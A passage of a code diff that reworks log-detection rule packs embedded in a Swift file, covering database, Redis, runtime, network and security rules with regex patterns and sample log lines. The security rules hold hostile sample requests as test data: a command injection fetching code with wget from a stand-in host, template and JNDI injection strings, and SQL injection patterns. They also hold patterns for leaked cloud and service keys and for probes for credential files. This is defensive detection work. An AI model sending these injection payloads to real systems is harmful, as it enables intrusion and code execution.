             - 'pymysql.err.OperationalError: (1205, ''Lock wait timeout exceeded; try restarting transaction'')'
           miss:
+            - 'LOG:  process 9 acquired ShareLock on transaction 12 after 1003.1 ms'
             - 'ERROR:  canceling statement due to user request'
 
       # Redis
 
-      - id: redis-connection-error
-        title: Redis cannot be reached
+      - id: redis-unavailable
+        title: Redis cannot be used
+        description: It cannot be reached, or still reads its data.
         severity: P2
         status: stable
-        pattern: 'Error -?\d+ (?:while )?connecting to \S+:\d+\.|redis\.exceptions\.(?:Connection|Timeout)Error'
+        pattern: >-
+          Error -?\d+ (?:while )?connecting to \S+:\d+\.|redis\.exceptions\.(?:Connection|Timeout)Error|Redis is loading
+          the dataset in memory
         tags: [redis]
         samples:
           hit:
             - 'redis.exceptions.ConnectionError: Error 111 connecting to cache:6379. Connection refused.'
             - '2026-11-23 06:50:48,123 ERROR [cache] [-] Error -2 connecting to cache:6379. Name or service not known.'
+            - 'redis.exceptions.BusyLoadingError: Redis is loading the dataset in memory'
           miss:
             - '2026-11-23 06:50:48,123 INFO [cache] [-] connecting to cache:6379'
+            - '1:M 23 Nov 2026 06:50:48.123 * DB loaded from disk: 0.002 seconds'
 
       - id: redis-refuses-writes
         title: Redis refuses to write
@@ -1143,82 +1316,253 @@ package enum EmbeddedPacks {
           miss:
             - '1:M 23 Nov 2026 06:50:48.123 * Background saving started by pid 7392'
 
-      - id: redis-loading
-        title: Redis is still reading its data
-        severity: P2
-        status: stable
-        pattern: 'Redis is loading the dataset in memory'
-        tags: [redis, start]
-        samples:
-          hit:
-            - 'redis.exceptions.BusyLoadingError: Redis is loading the dataset in memory'
-          miss:
-            - '1:M 23 Nov 2026 06:50:48.123 * DB loaded from disk: 0.002 seconds'
-
       # HTTP clients
 
-      - id: python-http-timeout
-        title: A call to another service timed out
+      - id: python-http-call-failed
+        title: A call to another service timed out, or was tried as often as it may
+        description: httpx, requests, urllib3.
         severity: P2
         status: stable
         pattern: >-
-          (?:httpx|httpcore|requests\.exceptions)\.(?:Connect|Read|Write|Pool)Timeout\b|Read timed
-          out\. \(read timeout=
+          (?:httpx|httpcore|requests\.exceptions)\.(?:Connect|Read|Write|Pool)Timeout\b|Read timed out\. \(read
+          timeout=|\bMax retries exceeded with url
+        group-by: [logger]
         tags: [python, client, timeout]
         samples:
           hit:
             - 'httpx.ConnectTimeout'
             - 'HTTPSConnectionPool(host=''api.example.org'', port=443): Read timed out. (read timeout=25)'
-          miss:
-            - '2026-11-23 06:50:48,123 INFO [client] [-] ReadTimeout is set to 25 s'
-
-      - id: python-http-retries-exceeded
-        title: urllib3 tried as often as it may
-        severity: P2
-        status: stable
-        pattern: '(?<pool>HTTPS?ConnectionPool\(host=''(?<host>[^'']+)'', port=\d+\)): Max retries exceeded with url'
-        message: '{host} could not be reached'
-        group-by: [host]
-        tags: [python, client]
-        samples:
-          hit:
             - >-
               requests.exceptions.ConnectionError: HTTPSConnectionPool(host='api.example.org', port=443):
               Max retries exceeded with url: /v1/orders (Caused by NewConnectionError('refused'))
           miss:
-            - '2026-11-23 06:50:48,123 INFO [client] [-] max retries is 3'
+            - '2026-11-23 06:50:48,123 INFO [client] [-] ReadTimeout is set to 25 s, max retries is 3'
+    """##
 
-      # Celery
+  private static let runtime = ##"""
+    pack: runtime
+    title: Process and machine
+    description: Memory, files, disks, names, certificates, connections, crashes
 
-      - id: celery-task-failed
-        title: A Celery task failed
-        severity: P2
-        status: stable
-        pattern: 'Task (?<task>[\w.]+)\[[0-9a-f-]{36}\] raised unexpected: '
-        message: '{task} failed'
-        group-by: [task]
-        tags: [python, celery]
-        samples:
-          hit:
-            - >-
-              [2026-11-23 06:47:55,003: ERROR/ForkPoolWorker-1] Task app.add[0b2fd6b8-6a4c-4b35-9e0e-0c1f4f4c7f11]
-              raised unexpected: ValueError('no such order')
-          miss:
-            - >-
-              [2026-11-23 06:47:55,003: INFO/ForkPoolWorker-1] Task app.add[0b2fd6b8-6a4c-4b35-9e0e-0c1f4f4c7f11]
-              succeeded in 0.1s: None
+    rules:
+      # Memory and processes
 
-      - id: celery-worker-lost
-        title: A Celery worker died at work
+      - id: oom-killed
+        title: A process was killed for its memory
         severity: P1
         status: stable
-        pattern: 'WorkerLostError|Worker exited prematurely: '
-        tags: [python, celery, memory]
+        pattern: >-
+          ut of memory: Killed process \d+|invoked oom-killer:|\bOOMKilled\b|exited with (?:exit )?(?:code|status)
+          137\b|\b[Ee]xit [Cc]ode:? 137\b
+        tags: [memory, kernel, container]
+        falsepositives: ['exit code 137 is any SIGKILL, as after a stop that took too long']
         samples:
           hit:
-            - 'billiard.exceptions.WorkerLostError: Worker exited prematurely: signal 9 (SIGKILL) Job: 7.'
+            - 'Nov 23 06:47:54 host kernel: Out of memory: Killed process 4711 (python) total-vm:9000kB, anon-rss:800kB'
+            - 'Nov 23 06:47:54 host kernel: Memory cgroup out of memory: Killed process 4711 (python) total-vm:9000kB'
+            - 'Nov 23 06:47:54 host kernel: python invoked oom-killer: gfp_mask=0xcc0(GFP_KERNEL), order=0'
+            - 'web-1 exited with code 137'
           miss:
-            - '[2026-11-23 06:47:55,003: INFO/MainProcess] worker: Warm shutdown (MainProcess)'
+            - 'Nov 23 06:47:54 host kernel: Memory: 8052464K/8388056K available'
+            - 'web-1 exited with code 0'
+
+      - id: memory-exhausted
+        title: No memory or no more threads were to be had
+        severity: P1
+        status: stable
+        pattern: >-
+          Cannot allocate memory|java\.lang\.OutOfMemoryError|JavaScript heap out of memory|std::bad_alloc|fatal error: out
+          of memory|can't start new thread|unable to create (?:new )?native thread
+        tags: [memory, threads]
+        samples:
+          hit:
+            - 'OSError: [Errno 12] Cannot allocate memory'
+            - 'Exception in thread "main" java.lang.OutOfMemoryError: Java heap space'
+            - 'FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory'
+            - 'RuntimeError: can''t start new thread'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [cache] [-] allocated 12 MB of memory'
+            - '2026-11-23 06:50:48,123 INFO [worker] [-] started a new thread'
+
+      - id: crashed
+        title: A process crashed
+        severity: P1
+        status: stable
+        pattern: >-
+          segfault at [0-9a-f]+ ip|\(core dumped\)|^Fatal Python error: |SIGSEGV: segmentation violation|runtime error:
+          (?:invalid memory address|index out of range|slice bounds)|^fatal error: (?:concurrent map|all goroutines are
+          asleep)|^thread '[^']*' (?:\(\d+\) )?panicked at
+        tags: [crash, kernel, python, go, rust]
+        samples:
+          hit:
+            - 'Nov 23 06:47:54 host kernel: python[4711]: segfault at 0 ip 00007f2a1c sp 00007ffc9 error 4 in libc.so.6'
+            - 'Fatal Python error: Segmentation fault'
+            - 'panic: runtime error: invalid memory address or nil pointer dereference'
+            - 'thread ''main'' panicked at src/main.rs:7:5:'
+          miss:
+            - 'Nov 23 06:47:54 host systemd-coredump[7]: core dumps are off'
+            - '2026-11-23 06:50:48,123 INFO [ui] [-] no reason to panic: the list is empty'
+
+      # Files and disks
+
+      - id: too-many-open-files
+        title: No more files can be opened
+        description: Connections count as files. Look for a leak before raising the limit.
+        severity: P1
+        status: stable
+        pattern: '(?i)too many open files'
+        tags: [files]
+        samples:
+          hit:
+            - 'OSError: [Errno 24] Too many open files'
+            - '2026/11/23 06:47:55 [crit] 7#7: accept4() failed (24: Too many open files)'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [app] [-] open files: 12 of 1024'
+
+      - id: disk-full
+        title: The disk is full
+        severity: P1
+        status: stable
+        pattern: '(?i)no space left on device|disk quota exceeded'
+        tags: [disk]
+        samples:
+          hit:
+            - 'OSError: [Errno 28] No space left on device: ''/var/lib/app/upload.tmp'''
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [disk] [-] 40 GB left on device sda1'
+
+      - id: disk-error
+        title: The disk has errors, or takes no writes
+        severity: P1
+        status: stable
+        pattern: >-
+          Buffer I/O error on dev|\bI/O error, dev \w+, sector|EXT4-fs error \(device|\[Errno 5\] Input/output
+          error|Read-only file system|Remounting filesystem read-only
+        tags: [disk, kernel]
+        samples:
+          hit:
+            - 'Nov 23 06:47:54 host kernel: blk_update_request: I/O error, dev sda, sector 4711 op 0x0:(READ)'
+            - 'OSError: [Errno 30] Read-only file system: ''/var/lib/app'''
+            - 'Nov 23 06:47:54 host kernel: EXT4-fs (sda1): Remounting filesystem read-only'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [disk] [-] 0 I/O errors on sda, /mnt/archive is mounted read-only'
+
+      # Network: names, certificates, connections
+
+      - id: dns-failed
+        title: A name was not found
+        severity: P2
+        status: stable
+        pattern: >-
+          Name or service not known|Temporary failure in name resolution|nodename nor servname provided|getaddrinfo
+          (?:ENOTFOUND|EAI_AGAIN) |\bno such host\b|server misbehaving$|could not translate host name
+        tags: [network, dns]
+        samples:
+          hit:
+            - 'socket.gaierror: [Errno -2] Name or service not known'
+            - 'Error: getaddrinfo EAI_AGAIN api.example.org'
+            - 'dial tcp: lookup db.internal on 10.0.0.2:53: no such host'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [dns] [-] name resolution took 3 ms'
+
+      - id: tls-certificate-expired
+        title: A certificate has expired
+        severity: P1
+        status: stable
+        pattern: 'certificate has expired|[Cc]ertificate expired|CERT_HAS_EXPIRED|ERR_CERT_DATE_INVALID'
+        tags: [network, tls]
+        samples:
+          hit:
+            - '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: certificate has expired (_ssl.c:1006)'
+            - 'tls: failed to verify certificate: x509: certificate has expired or is not yet valid'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [tls] [-] the certificate expires in 60 days'
+
+      - id: tls-refused
+        title: A certificate or a TLS handshake was refused
+        severity: P2
+        status: stable
+        pattern: >-
+          certificate verify failed|CERTIFICATE_VERIFY_FAILED|x509: certificate|PKIX path building
+          failed|SSL_do_handshake\(\) failed|TLS handshake error from|alert handshake failure
+        tags: [network, tls]
+        falsepositives: ['scanners, and clients that are too old']
+        samples:
+          hit:
+            - 'ssl.SSLCertVerificationError: [SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: self-signed'
+            - 'tls: failed to verify certificate: x509: certificate signed by unknown authority'
+            - '2026/11/23 06:47:55 [crit] 7#7: *1 SSL_do_handshake() failed (SSL: error:0A000119:SSL routines)'
+            - 'ssl.SSLError: [SSL: SSLV3_ALERT_HANDSHAKE_FAILURE] sslv3 alert handshake failure (_ssl.c:1006)'
+          miss:
+            - '2026-11-23 06:50:48,123 DEBUG [tls] [-] TLS handshake done in 3 ms, certificate verified'
+
+      - id: connection-refused
+        title: A connection was refused
+        severity: P2
+        status: stable
+        pattern: '\b[Cc]onnection refused\b|\bECONNREFUSED\b'
+        group-by: [logger]
+        tags: [network]
+        samples:
+          hit:
+            - 'ConnectionRefusedError: [Errno 111] Connection refused'
+            - 'Error: connect ECONNREFUSED 127.0.0.1:5432'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [net] [-] connection accepted'
+
+      - id: connection-reset
+        title: The other side broke a connection off
+        severity: P3
+        status: stable
+        pattern: '(?<!["''])\b[Cc]onnection reset by peer\b|\bECONNRESET\b|\bBroken pipe\b|\bRemoteDisconnected\b'
+        group-by: [logger]
+        tags: [network]
+        samples:
+          hit:
+            - 'ConnectionResetError: [Errno 104] Connection reset by peer'
+          miss:
+            - '2026-11-23 06:50:48,123 INFO [net] [-] connection closed by peer'
+            - '    raise ConnectionResetError(104, "Connection reset by peer")'
+
+      - id: connections-failing
+        title: Connections fail, again and again
+        severity: P1
+        status: stable
+        correlation:
+          type: event_count
+          rules: [connection-refused, connection-reset, dns-failed]
+          timespan: 10s
+          condition: {gte: 20}
+        generate: true
+        message: '{count} connections failed within 10 s'
+        tags: [network]
+        samples:
+          hit:
+            - |
+              2026-11-23 06:50:48,101 ERROR [client] [a0] [Errno 111] Connection refused
+              2026-11-23 06:50:48,201 ERROR [client] [b1] [Errno 111] Connection refused
+              2026-11-23 06:50:48,301 ERROR [client] [c2] [Errno 111] Connection refused
+              2026-11-23 06:50:48,401 ERROR [client] [d3] [Errno 111] Connection refused
+              2026-11-23 06:50:48,501 ERROR [client] [e4] [Errno 111] Connection refused
+              2026-11-23 06:50:48,601 ERROR [client] [f5] [Errno 111] Connection refused
+              2026-11-23 06:50:48,701 ERROR [client] [g6] [Errno 111] Connection refused
+              2026-11-23 06:50:48,801 ERROR [client] [h7] [Errno 111] Connection refused
+              2026-11-23 06:50:48,901 ERROR [client] [i8] [Errno 111] Connection refused
+              2026-11-23 06:50:49,001 ERROR [client] [j9] [Errno 111] Connection refused
+              2026-11-23 06:50:49,101 ERROR [client] [k10] [Errno 111] Connection refused
+              2026-11-23 06:50:49,201 ERROR [client] [l11] [Errno 111] Connection refused
+              2026-11-23 06:50:49,301 ERROR [client] [m12] [Errno 111] Connection refused
+              2026-11-23 06:50:49,401 ERROR [client] [n13] [Errno 111] Connection refused
+              2026-11-23 06:50:49,501 ERROR [client] [o14] [Errno 111] Connection refused
+              2026-11-23 06:50:49,601 ERROR [client] [p15] [Errno 111] Connection refused
+              2026-11-23 06:50:49,701 ERROR [client] [q16] [Errno 111] Connection refused
+              2026-11-23 06:50:49,801 ERROR [client] [r17] [Errno 111] Connection refused
+              2026-11-23 06:50:49,901 ERROR [client] [s18] [Errno 111] Connection refused
+              2026-11-23 06:50:50,001 ERROR [client] [t19] [Errno 111] Connection refused
+          miss:
+            - |
+              2026-11-23 06:50:48,101 ERROR [client] [a1] [Errno 111] Connection refused
+              2026-11-23 06:50:58,101 ERROR [client] [a2] [Errno 104] Connection reset by peer
     """##
 
   private static let security = ##"""
@@ -1235,7 +1579,9 @@ package enum EmbeddedPacks {
         status: stable
         on: path
         pattern: >-
-          (?i)/\.(?:env|git/|svn/|aws/|ssh/|DS_Store)|/wp-(?:login|config|admin|includes)|/xmlrpc\.php|/php(?:myadmin|info|unit)|/actuator/(?:env|heapdump|gateway)|/cgi-bin/|/server-status|/id_rsa|/vendor/phpunit
+          (?xi) /\.(?:env|git/|svn/|aws/|ssh/|DS_Store) | /wp-(?:login|config|admin|includes) | /xmlrpc\.php |
+          /php(?:myadmin|info|unit) | /actuator/(?:env|heapdump|gateway) | /cgi-bin/ | /server-status | /id_rsa |
+          /vendor/phpunit
         message: 'scanned for {path}'
         tags: [security, probing]
         falsepositives: ['a service that is made with WordPress, or that shows /actuator on purpose']
@@ -1276,7 +1622,7 @@ package enum EmbeddedPacks {
         severity: P1
         status: stable
         on: path
-        pattern: '/\.(?:env|git/(?:config|HEAD|index)|aws/credentials|ssh/)|/id_rsa|/actuator/(?:env|heapdump)|\.sql(?:\.gz)?$'
+        pattern: '/\.(?:env|git/(?:config|HEAD|index)|aws/credentials|ssh/)|/id_rsa|/actuator/(?:env|heapdump)|\.sql\.gz'
         where: 'status in (200, 206)'
         message: '{path} was served'
         group-by: [path]
@@ -1288,69 +1634,6 @@ package enum EmbeddedPacks {
           miss:
             - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /.env HTTP/1.1" 404 12 "-" "curl/8"'
 
-      - id: not-found-by-client
-        title: A path that does not exist
-        severity: P3
-        status: stable
-        where: 'status = 404 and has(remote_addr)'
-        tags: [security, probing]
-        samples:
-          hit:
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /admin HTTP/1.1" 404 12 "-" "curl/8"'
-          miss:
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 200 12 "-" "curl/8"'
-            - '2026-11-23 06:50:48,123 WARNING [access] [a1] request finished method=GET path=/orders/7 status=404'
-
-      - id: path-enumeration
-        title: One client asks for many paths that do not exist
-        severity: P2
-        status: stable
-        correlation:
-          type: value_count
-          rules: [not-found-by-client]
-          group-by: [remote_addr]
-          timespan: 5m
-          condition: {field: path, gte: 30}
-        message: '{remote_addr} asked for many different paths that do not exist'
-        tags: [security, probing]
-        samples:
-          hit:
-            - |
-              10.0.0.7 - - [23/Nov/2026:06:47:20 +0000] "GET /a0 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:21 +0000] "GET /b1 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:22 +0000] "GET /c2 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:23 +0000] "GET /d3 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:24 +0000] "GET /e4 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:25 +0000] "GET /f5 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:26 +0000] "GET /g6 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:27 +0000] "GET /h7 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:28 +0000] "GET /i8 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:29 +0000] "GET /j9 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:30 +0000] "GET /k10 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:31 +0000] "GET /l11 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:32 +0000] "GET /m12 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:33 +0000] "GET /n13 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:34 +0000] "GET /o14 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:35 +0000] "GET /p15 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:36 +0000] "GET /q16 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:37 +0000] "GET /r17 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:38 +0000] "GET /s18 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:39 +0000] "GET /t19 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:40 +0000] "GET /u20 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:41 +0000] "GET /v21 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:42 +0000] "GET /w22 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:43 +0000] "GET /x23 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:44 +0000] "GET /y24 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:45 +0000] "GET /z25 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:46 +0000] "GET /a26 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:47 +0000] "GET /b27 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:48 +0000] "GET /c28 HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:49 +0000] "GET /d29 HTTP/1.1" 404 12 "-" "curl/8"
-          miss:
-            - |
-              10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /a HTTP/1.1" 404 12 "-" "curl/8"
-              10.0.0.7 - - [23/Nov/2026:06:47:56 +0000] "GET /b HTTP/1.1" 404 12 "-" "curl/8"
-
       # Attempts to inject something, seen in what was asked for
 
       - id: sql-injection-attempt
@@ -1359,7 +1642,9 @@ package enum EmbeddedPacks {
         status: stable
         on: path
         pattern: >-
-          (?i)union(?:\s|\+|%20|/\*\*/)+(?:all(?:\s|\+|%20)+)?select\b|(?:'|%27)(?:\s|\+|%20)*or(?:\s|\+|%20)+(?:'|%27)?1(?:'|%27)?(?:=|%3D)|information_schema\.|(?:pg_)?sleep\(\d|benchmark\(\d|waitfor(?:\s|\+|%20)+delay
+          (?xi) union(?:\s|\+|%20|/\*\*/)+(?:all(?:\s|\+|%20)+)?select\b |
+          (?:'|%27)(?:\s|\+|%20)*or(?:\s|\+|%20)+(?:'|%27)?1(?:'|%27)?(?:=|%3D) |
+          information_schema\. | (?:pg_)?sleep\(\d | benchmark\(\d | waitfor(?:\s|\+|%20)+delay
         message: 'SQL in a request: {path}'
         tags: [security, injection]
         samples:
@@ -1384,19 +1669,26 @@ package enum EmbeddedPacks {
           miss:
             - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /docs/../index.html HTTP/1.1" 200 12 "-" "-"'
 
-      - id: script-injection-attempt
-        title: A script in a request
+      - id: code-injection-attempt
+        title: A script, a template expression or a shell command in a request
         severity: P2
         status: stable
         on: path
-        pattern: '(?i)(?:<|%3c)script\b|javascript(?::|%3a)|\bon(?:error|load)(?:=|%3d)'
-        message: 'a script in a request: {path}'
+        pattern: >-
+          (?xi) (?:<|%3c)script\b | javascript(?::|%3a) |
+          (?:\{\{|%7b%7b)[^}]{0,40}(?:\d(?:\*|%2a)\d|config\b|__class__|request\.) | __(?:subclasses|globals|import)__ |
+          (?:;|%3b|\||%7c|%26|`|%60|\$\(|%24%28)(?:\s|\+|%20)*(?:wget|curl|cat|chmod|whoami|uname)(?:\s|\+|%20|%60|`) |
+          /bin/(?:ba)?sh\b | \$\{IFS\}
+        message: 'code in a request: {path}'
         tags: [security, injection]
         samples:
           hit:
             - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /q?s=%3Cscript%3Ealert(1) HTTP/1.1" 200 12 "-" "-"'
+            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /hello?name={{7*7}} HTTP/1.1" 200 12 "-" "-"'
+            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /ping?h=a;wget+http://10.9.9.9/x HTTP/1.1" 200 12 "-" "-"'
           miss:
             - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /static/script.js HTTP/1.1" 200 12 "-" "-"'
+            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /tools/curl?a=1&b=2 HTTP/1.1" 200 12 "-" "-"'
 
       - id: jndi-injection-attempt
         title: A JNDI lookup in what was logged
@@ -1412,38 +1704,6 @@ package enum EmbeddedPacks {
             - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET / HTTP/1.1" 200 12 "-" "${${lower:j}ndi:rmi://x/a}"'
           miss:
             - '2026-11-23 06:50:48,123 INFO [app] [-] the name is read from JNDI: java:comp/env'
-
-      - id: template-injection-attempt
-        title: A template expression in a request
-        severity: P2
-        status: stable
-        on: path
-        pattern: >-
-          (?i)(?:\{\{|%7b%7b)[^}]{0,40}(?:\d(?:\*|%2a)\d|config\b|__class__|request\.)|__(?:subclasses|globals|import)__|(?:\$|%24)(?:\{|%7b)T\(java
-        message: 'a template expression in a request: {path}'
-        tags: [security, injection]
-        samples:
-          hit:
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /hello?name={{7*7}} HTTP/1.1" 200 12 "-" "-"'
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /q?s=%7B%7Bconfig%7D%7D HTTP/1.1" 200 12 "-" "-"'
-          miss:
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /templates/config?x=7 HTTP/1.1" 200 12 "-" "-"'
-
-      - id: command-injection-attempt
-        title: A shell command in a request
-        severity: P2
-        status: stable
-        on: path
-        pattern: >-
-          (?i)(?:;|%3b|\||%7c|%26|`|%60|\$\(|%24%28)(?:\s|\+|%20)*(?:wget|curl|cat|chmod|whoami|uname|ping)(?:\s|\+|%20|%60|`|$)|/bin/(?:ba)?sh\b|\$\{IFS\}
-        message: 'a shell command in a request: {path}'
-        tags: [security, injection]
-        samples:
-          hit:
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /ping?h=a;wget+http://10.9.9.9/x HTTP/1.1" 200 12 "-" "-"'
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /cgi?c=/bin/sh HTTP/1.1" 404 12 "-" "-"'
-          miss:
-            - '10.0.0.7 - - [23/Nov/2026:06:47:55 +0000] "GET /tools/curl?a=1&b=2 HTTP/1.1" 200 12 "-" "-"'
 
       # Passwords
 
@@ -1490,7 +1750,7 @@ package enum EmbeddedPacks {
         title: A login by SSH with a name that does not exist
         severity: P3
         status: stable
-        pattern: 'Failed password for invalid user (?<user>\S*) from (?<source>\S+) port|^Invalid user (?:\S+ )?from (?:\S+)'
+        pattern: '(?:Failed password for invalid|^Invalid) user (?<user>\S*) from (?<source>\S+) port \d+'
         message: 'somebody tried to log in as {user}'
         tags: [security, login, ssh]
         samples:
@@ -1542,7 +1802,8 @@ package enum EmbeddedPacks {
         severity: P3
         status: stable
         pattern: >-
-          (?i)\b(?:login|log-?in|sign-?in|authentication|password check) (?:has )?fail(?:ed|ure)\b|\b(?:invalid|wrong|bad) (?:credentials|password|username or password)\b|password authentication failed for user
+          (?i)\b(?:log-?in|sign-?in|authentication) (?:has )?fail(?:ed|ure)\b|\b(?:invalid|wrong|bad)
+          (?:credentials|username or password|password)\b|password authentication failed for user
         tags: [security, login]
         samples:
           hit:
@@ -1581,67 +1842,32 @@ package enum EmbeddedPacks {
               2026-11-23 06:50:48,101 WARNING [auth] [a1] login failed user=ana client=10.0.0.7
               2026-11-23 06:58:48,201 WARNING [auth] [a2] login failed user=ben client=10.0.0.8
 
-      - id: sudo-refused
-        title: sudo was refused
-        severity: P2
-        status: stable
-        pattern: '(?<user>\S+) : (?:user NOT in sudoers|command not allowed|\d+ incorrect password attempts?) ;'
-        message: '{user} was refused sudo'
-        group-by: [user]
-        tags: [security, privileges]
-        samples:
-          hit:
-            - 'Nov 23 06:47:54 host sudo[123]: ana : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id'
-          miss:
-            - 'Nov 23 06:47:54 host sudo[123]: ana : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/apt update'
-
-      - id: django-refused-request
-        title: Django refused a request as not its own
-        description: CSRF token missing or wrong, or a Host header that is not allowed.
-        severity: P3
-        status: stable
-        pattern: '^Forbidden \((?:CSRF|Origin checking failed|Referer checking failed)|^Invalid HTTP_HOST header: '
-        tags: [security, django]
-        samples:
-          hit:
-            - 'WARNING 2026-11-23 06:47:55,003 [8165e189] django.security.csrf: Forbidden (CSRF token missing.): /orders'
-            - 'Invalid HTTP_HOST header: ''203.0.113.9''. You may need to add ''203.0.113.9'' to ALLOWED_HOSTS.'
-          miss:
-            - 'WARNING 2026-11-23 06:47:55,003 [8165e189] django.request: Forbidden: /orders'
-
       # Secrets. What matched is never printed.
 
-      - id: secret-cloud-key
-        title: A cloud access key in the log
-        description: Whoever reads the log can use it. Take it out of use, then stop logging it.
+      - id: secret-api-key
+        title: A key of a known service in the log
+        description: >-
+          AWS, Google, GitHub, GitLab, Slack, Stripe, npm, PyPI, OpenAI, SendGrid. Whoever reads the log can use it. Take it
+          out of use, then stop logging it.
         severity: P1
         status: stable
         on: line
-        pattern: '\b(?:AKIA|ASIA)[0-9A-Z]{16}\b|\bAIza[0-9A-Za-z_-]{35}(?![0-9A-Za-z_-])'
+        pattern: >-
+          (?x) \b(?:AKIA|ASIA)[0-9A-Z]{16}\b | \bAIza[0-9A-Za-z_-]{35}(?![0-9A-Za-z_-]) |
+          \bgh[pousr]_[0-9A-Za-z]{36}\b | \bgithub_pat_[0-9A-Za-z_]{60,} | \bglpat-[0-9A-Za-z_-]{20} |
+          \bxox[abeprs]-[0-9A-Za-z-]{10,} | \b[rs]k_live_[0-9A-Za-z]{20,} | \bnpm_[0-9A-Za-z]{36}\b |
+          \bpypi-AgEI[0-9A-Za-z_-]{50,} | \bsk-proj-[0-9A-Za-z_-]{40,} |
+          \bSG\.[0-9A-Za-z_-]{22}\.[0-9A-Za-z_-]{43}
         secret: true
         tags: [security, secret, aws, google]
         samples:
           hit:
             - '2026-11-23 06:50:48,123 DEBUG [s3] [-] signing with AKIAIOSFODNN7EXAMPLE'
-          miss:
-            - '2026-11-23 06:50:48,123 DEBUG [s3] [-] signing with AKIA****'
-            - '2026-11-23 06:50:48,123 DEBUG [s3] [-] part XAKIAIOSFODNN7EXAMPLEXX stored'
-
-      - id: secret-api-token
-        title: A token of a known service in the log
-        description: GitHub, GitLab, Slack, Stripe, npm, PyPI, OpenAI, SendGrid.
-        severity: P1
-        status: stable
-        on: line
-        pattern: >-
-          \bgh[pousr]_[0-9A-Za-z]{36}\b|\bgithub_pat_[0-9A-Za-z_]{60,}|\bglpat-[0-9A-Za-z_-]{20}|\bxox[abeprs]-[0-9A-Za-z-]{10,}|\b[rs]k_live_[0-9A-Za-z]{20,}|\bnpm_[0-9A-Za-z]{36}\b|\bpypi-AgEI[0-9A-Za-z_-]{50,}|\bsk-proj-[0-9A-Za-z_-]{40,}|\bSG\.[0-9A-Za-z_-]{22}\.[0-9A-Za-z_-]{43}
-        secret: true
-        tags: [security, secret]
-        samples:
-          hit:
             - '2026-11-23 06:50:48,123 DEBUG [ci] [-] cloning with ghp_0123456789abcdefghijABCDEFGHIJ012345'
